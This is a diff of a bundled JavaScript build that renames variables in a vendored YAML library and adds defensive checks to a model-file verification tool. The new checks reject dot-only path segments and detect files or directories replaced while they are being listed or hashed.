-          str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(keyComment));
-        str2 = `? ${str2}
+          str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(keyComment));
+        str3 = `? ${str3}
 ${indent}:`;
       } else {
-        str2 = `${str2}:`;
+        str3 = `${str3}:`;
         if (keyComment)
-          str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(keyComment));
+          str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(keyComment));
       }
       let vsb, vcb, valueComment;
       if (identity.isNode(value)) {
@@ -8436,7 +8439,7 @@ ${indent}:`;
       }
       ctx.implicitKey = false;
       if (!explicitKey && !keyComment && identity.isScalar(value))
-        ctx.indentAtStart = str2.length + 1;
+        ctx.indentAtStart = str3.length + 1;
       chompKeep = false;
       if (!indentSeq && indentStep.length >= 2 && !ctx.inFlow && !explicitKey && identity.isSeq(value) && !value.flow && !value.tag && !value.anchor) {
         ctx.indent = ctx.indent.substring(2);
@@ -8480,16 +8483,16 @@ ${ctx.indent}`;
       } else if (valueStr === "" || valueStr[0] === "\n") {
         ws2 = "";
       }
-      str2 += ws2 + valueStr;
+      str3 += ws2 + valueStr;
       if (ctx.inFlow) {
         if (valueCommentDone && onComment)
           onComment();
       } else if (valueComment && !valueCommentDone) {
-        str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(valueComment));
+        str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(valueComment));
       } else if (chompKeep && onChompKeep) {
         onChompKeep();
       }
-      return str2;
+      return str3;
     }
     exports.stringifyPair = stringifyPair;
   }
@@ -8716,31 +8719,31 @@ var require_stringifyCollection = __commonJS({
           }
         }
         chompKeep = false;
-        let str3 = stringify.stringify(item, itemCtx, () => comment2 = null, () => chompKeep = true);
+        let str4 = stringify.stringify(item, itemCtx, () => comment2 = null, () => chompKeep = true);
         if (comment2)
-          str3 += stringifyComment.lineComment(str3, itemIndent, commentString(comment2));
+          str4 += stringifyComment.lineComment(str4, itemIndent, commentString(comment2));
         if (chompKeep && comment2)
           chompKeep = false;
-        lines.push(blockItemPrefix + str3);
+        lines.push(blockItemPrefix + str4);
       }
-      let str2;
+      let str3;
       if (lines.length === 0) {
-        str2 = flowChars.start + flowChars.end;
+        str3 = flowChars.start + flowChars.end;
       } else {
-        str2 = lines[0];
+        str3 = lines[0];
         for (let i = 1; i < lines.length; ++i) {
           const line = lines[i];
-          str2 += line ? `
+          str3 += line ? `
 ${indent}${line}` : "\n";
         }
       }
       if (comment) {
-        str2 += "\n" + stringifyComment.indentComment(commentString(comment), indent);
+        str3 += "\n" + stringifyComment.indentComment(commentString(comment), indent);
         if (onComment)
           onComment();
       } else if (chompKeep && onChompKeep)
         onChompKeep();
-      return str2;
+      return str3;
     }
     function stringifyFlowCollection({ items }, ctx, { flowChars, itemIndent }) {
       const { indent, indentStep, flowCollectionPadding: fcPadding, options: { commentString } } = ctx;
@@ -8783,21 +8786,21 @@ ${indent}${line}` : "\n";
         }
         if (comment)
           reqNewline = true;
-        let str2 = stringify.stringify(item, itemCtx, () => comment = null);
-        reqNewline || (reqNewline = lines.length > linesAtValue || str2.includes("\n"));
+        let str3 = stringify.stringify(item, itemCtx, () => comment = null);
+        reqNewline || (reqNewline = lines.length > linesAtValue || str3.includes("\n"));
         if (i < items.length - 1) {
-          str2 += ",";
+          str3 += ",";
         } else if (ctx.options.trailingComma) {
           if (ctx.options.lineWidth > 0) {
-            reqNewline || (reqNewline = lines.reduce((sum, line) => sum + line.length + 2, 2) + (str2.length + 2) > ctx.options.lineWidth);
+            reqNewline || (reqNewline = lines.reduce((sum, line) => sum + line.length + 2, 2) + (str3.length + 2) > ctx.options.lineWidth);
           }
           if (reqNewline) {
-            str2 += ",";
+            str3 += ",";
           }
         }
         if (comment)
-          str2 += stringifyComment.lineComment(str2, itemIndent, commentString(comment));
-        lines.push(str2);
+          str3 += stringifyComment.lineComment(str3, itemIndent, commentString(comment));
+        lines.push(str3);
         linesAtValue = lines.length;
       }
       const { start, end } = flowChars;
@@ -8809,11 +8812,11 @@ ${indent}${line}` : "\n";
           reqNewline = ctx.options.lineWidth > 0 && len > ctx.options.lineWidth;
         }
         if (reqNewline) {
-          let str2 = start;
+          let str3 = start;
           for (const line of lines)
-            str2 += line ? `
+            str3 += line ? `
 ${indentStep}${indent}${line}` : "\n";
-          return `${str2}
+          return `${str3}
 ${indent}${end}`;
         } else {
           return `${start}${fcPadding}${lines.join(" ")}${fcPadding}${end}`;
@@ -9145,7 +9148,7 @@ var require_string = __commonJS({
       identify: (value) => typeof value === "string",
       default: true,
       tag: "tag:yaml.org,2002:str",
-      resolve: (str2) => str2,
+      resolve: (str3) => str3,
       stringify(item, ctx, onComment, onChompKeep) {
         ctx = Object.assign({ actualString: true }, ctx);
         return stringifyString.stringifyString(item, ctx, onComment, onChompKeep);
@@ -9183,7 +9186,7 @@ var require_bool = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:bool",
       test: /^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,
-      resolve: (str2) => new Scalar.Scalar(str2[0] === "t" || str2[0] === "T"),
+      resolve: (str3) => new Scalar.Scalar(str3[0] === "t" || str3[0] === "T"),
       stringify({ source, value }, ctx) {
         if (source && boolTag.test.test(source)) {
           const sv = source[0] === "t" || source[0] === "T";
@@ -9235,7 +9238,7 @@ var require_float = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
-      resolve: (str2) => str2.slice(-3).toLowerCase() === "nan" ? NaN : str2[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
+      resolve: (str3) => str3.slice(-3).toLowerCase() === "nan" ? NaN : str3[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
       stringify: stringifyNumber.stringifyNumber
     };
     var floatExp = {
@@ -9244,7 +9247,7 @@ var require_float = __commonJS({
       tag: "tag:yaml.org,2002:float",
       format: "EXP",
       test: /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,
-      resolve: (str2) => parseFloat(str2),
+      resolve: (str3) => parseFloat(str3),
       stringify(node) {
         const num = Number(node.value);
         return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
@@ -9255,11 +9258,11 @@ var require_float = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,
-      resolve(str2) {
-        const node = new Scalar.Scalar(parseFloat(str2));
-        const dot = str2.indexOf(".");
-        if (dot !== -1 && str2[str2.length - 1] === "0")
-          node.minFractionDigits = str2.length - dot - 1;
+      resolve(str3) {
+        const node = new Scalar.Scalar(parseFloat(str3));
+        const dot = str3.indexOf(".");
+        if (dot !== -1 && str3[str3.length - 1] === "0")
+          node.minFractionDigits = str3.length - dot - 1;
         return node;
       },
       stringify: stringifyNumber.stringifyNumber
@@ -9276,7 +9279,7 @@ var require_int = __commonJS({
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
-    var intResolve = (str2, offset, radix, { intAsBigInt }) => intAsBigInt ? BigInt(str2) : parseInt(str2.substring(offset), radix);
+    var intResolve = (str3, offset, radix, { intAsBigInt }) => intAsBigInt ? BigInt(str3) : parseInt(str3.substring(offset), radix);
     function intStringify(node, radix, prefix) {
       const { value } = node;
       if (intIdentify(value) && value >= 0)
@@ -9289,7 +9292,7 @@ var require_int = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "OCT",
       test: /^0o[0-7]+$/,
-      resolve: (str2, _onError, opt) => intResolve(str2, 2, 8, opt),
+      resolve: (str3, _onError, opt) => intResolve(str3, 2, 8, opt),
       stringify: (node) => intStringify(node, 8, "0o")
     };
     var int = {
@@ -9297,7 +9300,7 @@ var require_int = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:int",
       test: /^[-+]?[0-9]+$/,
-      resolve: (str2, _onError, opt) => intResolve(str2, 0, 10, opt),
+      resolve: (str3, _onError, opt) => intResolve(str3, 0, 10, opt),
       stringify: stringifyNumber.stringifyNumber
     };
     var intHex = {
@@ -9306,7 +9309,7 @@ var require_int = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "HEX",
       test: /^0x[0-9a-fA-F]+$/,
-      resolve: (str2, _onError, opt) => intResolve(str2, 2, 16, opt),
+      resolve: (str3, _onError, opt) => intResolve(str3, 2, 16, opt),
       stringify: (node) => intStringify(node, 16, "0x")
     };
     exports.int = int;
@@ -9359,7 +9362,7 @@ var require_schema2 = __commonJS({
         identify: (value) => typeof value === "string",
         default: true,
         tag: "tag:yaml.org,2002:str",
-        resolve: (str2) => str2,
+        resolve: (str3) => str3,
         stringify: stringifyJSON
       },
       {
@@ -9376,7 +9379,7 @@ var require_schema2 = __commonJS({
         default: true,
         tag: "tag:yaml.org,2002:bool",
         test: /^true$|^false$/,
-        resolve: (str2) => str2 === "true",
+        resolve: (str3) => str3 === "true",
         stringify: stringifyJSON
       },
       {
@@ -9384,7 +9387,7 @@ var require_schema2 = __commonJS({
         default: true,
         tag: "tag:yaml.org,2002:int",
         test: /^-?(?:0|[1-9][0-9]*)$/,
-        resolve: (str2, _onError, { intAsBigInt }) => intAsBigInt ? BigInt(str2) : parseInt(str2, 10),
+        resolve: (str3, _onError, { intAsBigInt }) => intAsBigInt ? BigInt(str3) : parseInt(str3, 10),
         stringify: ({ value }) => intIdentify(value) ? value.toString() : JSON.stringify(value)
       },
       {
@@ -9392,7 +9395,7 @@ var require_schema2 = __commonJS({
         default: true,
         tag: "tag:yaml.org,2002:float",
         test: /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,
-        resolve: (str2) => parseFloat(str2),
+        resolve: (str3) => parseFloat(str3),
         stringify: stringifyJSON
       }
     ];
@@ -9400,9 +9403,9 @@ var require_schema2 = __commonJS({
       default: true,
       tag: "",
       test: /^/,
-      resolve(str2, onError) {
-        onError(`Unresolved plain scalar ${JSON.stringify(str2)}`);
-        return str2;
+      resolve(str3, onError) {
+        onError(`Unresolved plain scalar ${JSON.stringify(str3)}`);
+        return str3;
       }
     };
     var schema = [map.map, seq.seq].concat(jsonScalars, jsonError);
@@ -9434,10 +9437,10 @@ var require_binary = __commonJS({
         if (typeof node_buffer.Buffer === "function") {
           return node_buffer.Buffer.from(src, "base64");
         } else if (typeof atob === "function") {
-          const str2 = atob(src.replace(/[\n\r]/g, ""));
-          const buffer = new Uint8Array(str2.length);
-          for (let i = 0; i < str2.length; ++i)
-            buffer[i] = str2.charCodeAt(i);
+          const str3 = atob(src.replace(/[\n\r]/g, ""));
+          const buffer = new Uint8Array(str3.length);
+          for (let i = 0; i < str3.length; ++i)
+            buffer[i] = str3.charCodeAt(i);
           return buffer;
         } else {
           onError("This environment does not support reading binary tags; either Buffer or atob is required");
@@ -9448,28 +9451,28 @@ var require_binary = __commonJS({
         if (!value)
           return "";
         const buf = value;
-        let str2;
+        let str3;
         if (typeof node_buffer.Buffer === "function") {
-          str2 = buf instanceof node_buffer.Buffer ? buf.toString("base64") : node_buffer.Buffer.from(buf.buffer).toString("base64");
+          str3 = buf instanceof node_buffer.Buffer ? buf.toString("base64") : node_buffer.Buffer.from(buf.buffer).toString("base64");
         } else if (typeof btoa === "function") {
           let s3 = "";
           for (let i = 0; i < buf.length; ++i)
             s3 += String.fromCharCode(buf[i]);
-          str2 = btoa(s3);
+          str3 = btoa(s3);
         } else {
           throw new Error("This environment does not support writing binary tags; either Buffer or btoa is required");
         }
         type ?? (type = Scalar.Scalar.BLOCK_LITERAL);
         if (type !== Scalar.Scalar.QUOTE_DOUBLE) {
           const lineWidth = Math.max(ctx.options.lineWidth - ctx.indent.length, ctx.options.minContentWidth);
-          const n = Math.ceil(str2.length / lineWidth);
+          const n = Math.ceil(str3.length / lineWidth);
           const lines = new Array(n);
           for (let i = 0, o = 0; i < n; ++i, o += lineWidth) {
-            lines[i] = str2.substr(o, lineWidth);
+            lines[i] = str3.substr(o, lineWidth);
           }
-          str2 = lines.join(type === Scalar.Scalar.BLOCK_LITERAL ? "\n" : " ");
+          str3 = lines.join(type === Scalar.Scalar.BLOCK_LITERAL ? "\n" : " ");
         }
-        return stringifyString.stringifyString({ comment, type, value: str2 }, ctx, onComment, onChompKeep);
+        return stringifyString.stringifyString({ comment, type, value: str3 }, ctx, onComment, onChompKeep);
       }
     };
     exports.binary = binary;
@@ -9675,7 +9678,7 @@ var require_float2 = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
-      resolve: (str2) => str2.slice(-3).toLowerCase() === "nan" ? NaN : str2[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
+      resolve: (str3) => str3.slice(-3).toLowerCase() === "nan" ? NaN : str3[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
       stringify: stringifyNumber.stringifyNumber
     };
     var floatExp = {
@@ -9684,7 +9687,7 @@ var require_float2 = __commonJS({
       tag: "tag:yaml.org,2002:float",
       format: "EXP",
       test: /^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,
-      resolve: (str2) => parseFloat(str2.replace(/_/g, "")),
+      resolve: (str3) => parseFloat(str3.replace(/_/g, "")),
       stringify(node) {
         const num = Number(node.value);
         return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
@@ -9695,11 +9698,11 @@ var require_float2 = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,
-      resolve(str2) {
-        const node = new Scalar.Scalar(parseFloat(str2.replace(/_/g, "")));
-        const dot = str2.indexOf(".");
+      resolve(str3) {
+        const node = new Scalar.Scalar(parseFloat(str3.replace(/_/g, "")));
+        const dot = str3.indexOf(".");
         if (dot !== -1) {
-          const f2 = str2.substring(dot + 1).replace(/_/g, "");
+          const f2 = str3.substring(dot + 1).replace(/_/g, "");
           if (f2[f2.length - 1] === "0")
             node.minFractionDigits = f2.length;
         }
@@ -9719,34 +9722,34 @@ var require_int2 = __commonJS({
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
-    function intResolve(str2, offset, radix, { intAsBigInt }) {
-      const sign2 = str2[0];
+    function intResolve(str3, offset, radix, { intAsBigInt }) {
+      const sign2 = str3[0];
       if (sign2 === "-" || sign2 === "+")
         offset += 1;
-      str2 = str2.substring(offset).replace(/_/g, "");
+      str3 = str3.substring(offset).replace(/_/g, "");
       if (intAsBigInt) {
         switch (radix) {
           case 2:
-            str2 = `0b${str2}`;
+            str3 = `0b${str3}`;
             break;
           case 8:
-            str2 = `0o${str2}`;
+            str3 = `0o${str3}`;
             break;
           case 16:
-            str2 = `0x${str2}`;
+            str3 = `0x${str3}`;
             break;
         }
-        const n2 = BigInt(str2);
+        const n2 = BigInt(str3);
         return sign2 === "-" ? BigInt(-1) * n2 : n2;
       }
-      const n = parseInt(str2, radix);
+      const n = parseInt(str3, radix);
       return sign2 === "-" ? -1 * n : n;
     }
     function intStringify(node, radix, prefix) {
       const { value } = node;
       if (intIdentify(value)) {
-        const str2 = value.toString(radix);
-        return value < 0 ? "-" + prefix + str2.substr(1) : prefix + str2;
+        const str3 = value.toString(radix);
+        return value < 0 ? "-" + prefix + str3.substr(1) : prefix + str3;
       }
       return stringifyNumber.stringifyNumber(node);
     }
@@ -9756,7 +9759,7 @@ var require_int2 = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "BIN",
       test: /^[-+]?0b[0-1_]+$/,
-      resolve: (str2, _onError, opt) => intResolve(str2, 2, 2, opt),
+      resolve: (str3, _onError, opt) => intResolve(str3, 2, 2, opt),
       stringify: (node) => intStringify(node, 2, "0b")
     };
     var intOct = {
@@ -9765,7 +9768,7 @@ var require_int2 = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "OCT",
       test: /^[-+]?0[0-7_]+$/,
-      resolve: (str2, _onError, opt) => intResolve(str2, 1, 8, opt),
+      resolve: (str3, _onError, opt) => intResolve(str3, 1, 8, opt),
       stringify: (node) => intStringify(node, 8, "0")
     };
     var int = {
@@ -9773,7 +9776,7 @@ var require_int2 = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:int",
       test: /^[-+]?[0-9][0-9_]*$/,
-      resolve: (str2, _onError, opt) => intResolve(str2, 0, 10, opt),
+      resolve: (str3, _onError, opt) => intResolve(str3, 0, 10, opt),
       stringify: stringifyNumber.stringifyNumber
     };
     var intHex = {
@@ -9782,7 +9785,7 @@ var require_int2 = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "HEX",
       test: /^[-+]?0x[0-9a-fA-F_]+$/,
-      resolve: (str2, _onError, opt) => intResolve(str2, 2, 16, opt),
+      resolve: (str3, _onError, opt) => intResolve(str3, 2, 16, opt),
       stringify: (node) => intStringify(node, 16, "0x")
     };
     exports.int = int;
@@ -9886,9 +9889,9 @@ var require_timestamp = __commonJS({
   "node_modules/yaml/dist/schema/yaml-1.1/timestamp.js"(exports) {
     "use strict";
     var stringifyNumber = require_stringifyNumber();
-    function parseSexagesimal(str2, asBigInt) {
-      const sign2 = str2[0];
-      const parts = sign2 === "-" || sign2 === "+" ? str2.substring(1) : str2;
+    function parseSexagesimal(str3, asBigInt) {
+      const sign2 = str3[0];
+      const parts = sign2 === "-" || sign2 === "+" ? str3.substring(1) : str3;
       const num = (n) => asBigInt ? BigInt(n) : Number(n);
       const res = parts.replace(/_/g, "").split(":").reduce((res2, p2) => res2 * num(60) + num(p2), num(0));
       return sign2 === "-" ? num(-1) * res : res;
@@ -9925,7 +9928,7 @@ var require_timestamp = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "TIME",
       test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,
-      resolve: (str2, _onError, { intAsBigInt }) => parseSexagesimal(str2, intAsBigInt),
+      resolve: (str3, _onError, { intAsBigInt }) => parseSexagesimal(str3, intAsBigInt),
       stringify: stringifySexagesimal
     };
     var floatTime = {
@@ -9934,7 +9937,7 @@ var require_timestamp = __commonJS({
       tag: "tag:yaml.org,2002:float",
       format: "TIME",
       test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,
-      resolve: (str2) => parseSexagesimal(str2, false),
+      resolve: (str3) => parseSexagesimal(str3, false),
       stringify: stringifySexagesimal
     };
     var timestamp = {
@@ -9945,8 +9948,8 @@ var require_timestamp = __commonJS({
       // may be omitted altogether, resulting in a date format. In such a case, the time part is
       // assumed to be 00:00:00Z (start of day, UTC).
       test: RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),
-      resolve(str2) {
-        const match = str2.match(timestamp.test);
+      resolve(str3) {
+        const match = str3.match(timestamp.test);
         if (!match)
           throw new Error("!!timestamp expects a date, starting with yyyy-mm-dd");
         const [, year, month, day, hour, minute, second] = match.map(Number);
@@ -10297,9 +10300,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path14, value) {
+      addIn(path18, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path14, value);
+          this.contents.addIn(path18, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -10374,14 +10377,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path14) {
-        if (Collection.isEmptyPath(path14)) {
+      deleteIn(path18) {
+        if (Collection.isEmptyPath(path18)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path14) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path18) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -10396,10 +10399,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path14, keepScalar) {
-        if (Collection.isEmptyPath(path14))
+      getIn(path18, keepScalar) {
+        if (Collection.isEmptyPath(path18))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path14, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path18, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -10410,10 +10413,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path14) {
-        if (Collection.isEmptyPath(path14))
+      hasIn(path18) {
+        if (Collection.isEmptyPath(path18))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path14) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path18) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -10430,13 +10433,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path14, value) {
-        if (Collection.isEmptyPath(path14)) {
+      setIn(path18, value) {
+        if (Collection.isEmptyPath(path18)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path14), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path18), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path14, value);
+          this.contents.setIn(path18, value);
         }
       }
       /**
@@ -12397,9 +12400,9 @@ var require_cst_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path14) => {
+    visit.itemAtPath = (cst, path18) => {
       let item = cst;
-      for (const [field, index] of path14) {
+      for (const [field, index] of path18) {
         const tok = item?.[field];
         if (tok && "items" in tok) {
           item = tok.items[index];
@@ -12408,23 +12411,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path14) => {
-      const parent = visit.itemAtPath(cst, path14.slice(0, -1));
-      const field = path14[path14.length - 1][0];
+    visit.parentCollection = (cst, path18) => {
+      const parent = visit.itemAtPath(cst, path18.slice(0, -1));
+      const field = path18[path18.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path14, item, visitor) {
-      let ctrl = visitor(item, path14);
+    function _visit(path18, item, visitor) {
+      let ctrl = visitor(item, path18);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci2 = _visit(Object.freeze(path14.concat([[field, i]])), token.items[i], visitor);
+            const ci2 = _visit(Object.freeze(path18.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -12435,10 +12438,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path14);
+            ctrl = ctrl(item, path18);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path14) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path18) : ctrl;
     }
     exports.visit = visit;
   }
@@ -16244,8 +16247,8 @@ function canonicalId(token) {
   const spdx = SPDX_IDS.get(lower);
   if (spdx) return { id: spdx, known: true };
   if (lower.endsWith("+") && !lower.slice(0, -1).includes("+")) {
-    const base = SPDX_IDS.get(lower.slice(0, -1)) ?? HF.get(lower.slice(0, -1));
-    if (base) return { id: `${base.replace(/-only$/, "")}+`, known: true };
+    const base2 = SPDX_IDS.get(lower.slice(0, -1)) ?? HF.get(lower.slice(0, -1));
+    if (base2) return { id: `${base2.replace(/-only$/, "")}+`, known: true };
   }
   if (lower.startsWith("licenseref-") && lower.length > "licenseref-".length) return { id: refId(lower.slice("licenseref-".length)), known: true };
   return { id: refId(lower), known: false };
@@ -16375,6 +16378,7 @@ function unsafeNameReason(name) {
     if (seg === "") return "empty path segment";
     if (seg === "..") return '".." segment';
     if (seg === ".") return '"." segment';
+    if (/^[. ]+$/.test(seg)) return "segment of only dots and spaces";
   }
   return void 0;
 }
@@ -16427,7 +16431,7 @@ async function enumerateModel(model, opts) {
     return enumerateModel(real, opts);
   }
   if (st2.isFile()) {
-    return { root, isFile: true, files: [{ name: path.basename(root), abs: root, size: st2.size, viaLink: false }], problems };
+    return { root, isFile: true, files: [{ name: path.basename(root), abs: root, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } }], problems };
   }
   if (!st2.isDirectory()) {
     throw usage("SPECIAL_FILE", `model is a ${kindOf(st2)}, not a file or directory: ${model}`);
@@ -16437,12 +16441,16 @@ async function enumerateModel(model, opts) {
   const maxDepth = opts.maxDepth ?? DEFAULT_MAX_DEPTH;
   const files = [];
   const visitedDirs = /* @__PURE__ */ new Set();
-  const walk = async (absDir, rel, depth, viaLink) => {
+  const replaced = (rel) => {
+    problems.push({ code: "FILE_REPLACED", path: rel === "" ? "." : rel, message: "directory was replaced while the model was being listed" });
+  };
+  const walk = async (absDir, rel, depth, viaLink, expect) => {
     if (depth > maxDepth) {
       problems.push({ code: "TOO_DEEP", path: rel, message: `directory nesting deeper than ${maxDepth}` });
       return;
     }
-    const dst = await stat(absDir);
+    const dst = await lstat(absDir);
+    if (!dst.isDirectory() || expect && (dst.dev !== expect.dev || dst.ino !== expect.ino)) return replaced(rel);
     const key = `${dst.dev}:${dst.ino}`;
     if (visitedDirs.has(key)) {
       problems.push({ code: "SYMLINK_LOOP", path: rel, message: "directory reached twice through symlinks" });
@@ -16450,6 +16458,8 @@ async function enumerateModel(model, opts) {
     }
     visitedDirs.add(key);
     const entries = await readdir(absDir, { withFileTypes: true });
+    const again = await lstat(absDir);
+    if (!again.isDirectory() || again.dev !== dst.dev || again.ino !== dst.ino) return replaced(rel);
     for (const ent of entries) {
       const name = rel === "" ? ent.name : `${rel}/${ent.name}`;
       if (isIgnored(name, opts.ignorePaths)) continue;
@@ -16472,13 +16482,13 @@ async function enumerateModel(model, opts) {
           continue;
         }
         const tst = await stat(target);
-        if (tst.isDirectory()) await walk(target, name, depth + 1, true);
-        else if (tst.isFile()) files.push({ name, abs: target, size: tst.size, viaLink: true });
+        if (tst.isDirectory()) await walk(target, name, depth + 1, true, { dev: tst.dev, ino: tst.ino });
+        else if (tst.isFile()) files.push({ name, abs: target, size: tst.size, viaLink: true, id: { dev: tst.dev, ino: tst.ino } });
         else problems.push({ code: "SPECIAL_FILE", path: name, message: `symlink to a ${kindOf(tst)}` });
       } else if (est.isDirectory()) {
-        await walk(abs, name, depth + 1, viaLink);
+        await walk(abs, name, depth + 1, viaLink, { dev: est.dev, ino: est.ino });
       } else if (est.isFile()) {
-        files.push({ name, abs, size: est.size, viaLink });
+        files.push({ name, abs, size: est.size, viaLink, id: { dev: est.dev, ino: est.ino } });
       } else {
         problems.push({ code: "SPECIAL_FILE", path: name, message: `${kindOf(est)} is not a regular file` });
       }
@@ -17089,6 +17099,9 @@ function hashRange(task, alg, buf) {
   try {
     const before = fstatSync(fd);
     if (!before.isFile()) return { ok: false, code: "SPECIAL_FILE", message: "not a regular file" };
+    if (task.expectId && (before.ino !== task.expectId.ino || before.dev !== task.expectId.dev)) {
+      return { ok: false, code: "FILE_REPLACED", message: "a different file was found at this path than the one listed (replaced while verifying)" };
+    }
     if (before.size !== task.expectSize) {
       return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: "file size changed while it was being read" };
     }
@@ -17102,7 +17115,7 @@ function hashRange(task, alg, buf) {
       pos += n;
     }
     const after = fstatSync(fd);
-    if (after.size !== before.size || after.mtimeMs !== before.mtimeMs) {
+    if (after.size !== before.size || after.mtimeMs !== before.mtimeMs || after.ctimeMs !== before.ctimeMs) {
       return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: "file changed while it was being read" };
     }
     return { ok: true, digest: h.digestHex() };
@@ -17241,7 +17254,7 @@ var init_source = __esm({
 });
 
 // src/verify/files.ts
-import { lstat as lstat2 } from "node:fs/promises";
+import { lstat as lstat2, realpath as realpath2 } from "node:fs/promises";
 import path2 from "node:path";
 function parseShardName(name) {
   const m2 = /^(.*):(\d{1,16}):(\d{1,16})$/s.exec(name);
@@ -17252,22 +17265,43 @@ function parseShardName(name) {
   return { path: m2[1], start, end };
 }
 async function statInside(root, name, allowSymlinks) {
+  const missing = { code: "FILE_MISSING", path: name, message: "signed file is missing" };
   const segs = name.split("/");
   let cur = root;
+  let viaLink = false;
   for (let i = 0; i < segs.length; i++) {
     cur = path2.join(cur, segs[i]);
-    let st2;
+    let st3;
     try {
-      st2 = await lstat2(cur);
+      st3 = await lstat2(cur);
     } catch {
-      return { code: "FILE_MISSING", path: name, message: "signed file is missing" };
+      return missing;
     }
-    if (st2.isSymbolicLink() && !allowSymlinks) return { code: "SYMLINK_REFUSED", path: name, message: "signed path goes through a symlink" };
-    if (i < segs.length - 1) continue;
-    if (!st2.isFile()) return { code: "SPECIAL_FILE", path: name, message: "signed path is not a regular file" };
-    return { name, abs: cur, size: st2.size, viaLink: false };
